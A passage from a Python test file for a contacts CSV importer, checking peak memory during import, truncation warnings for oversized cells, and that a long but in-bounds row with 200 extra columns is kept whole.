    peak, printed = peak_import_rss(path, database)
    assert peak < IMPORT_RSS_LIMIT_MIB, f"peak RSS {peak} MiB"
    assert printed[0] == "100 0"
    assert sum("so it was cut: 3 values left out and 1 cut short" in line for line in printed) == 100
    store = SqliteStore(database)
    try:
        contacts = all_contacts(store)
    finally:
        store.close()
    for contact in contacts:
        kept = len(contact.name) + sum(len(p.raw) for p in contact.phones) + len(contact.note or "")
        kept += sum(len(v) for v in contact.extra.values())
        assert kept == 64 * 1024 and contact.note == cell and list(contact.extra) == ["column 4"]


def test_a_long_row_within_the_bounds_is_kept_whole(store, normalizer, tmp_path):
    text = "name,phone,note\n" + "Ivan,84951343060; 89066800404," + "n" * 60_000 + "," + ",".join(
        f"v{i}" for i in range(200)) + "\n"
    summary = run(store, write(tmp_path, text), normalizer)
    assert summary.imported == 1
    assert not [w for w in summary.warnings if "cut" in w.reason]
    (ivan,) = all_contacts(store)
    assert len(ivan.note or "") == 60_000 and len(ivan.extra) == 200 and keys(ivan) == [MOSCOW, MOBILE]
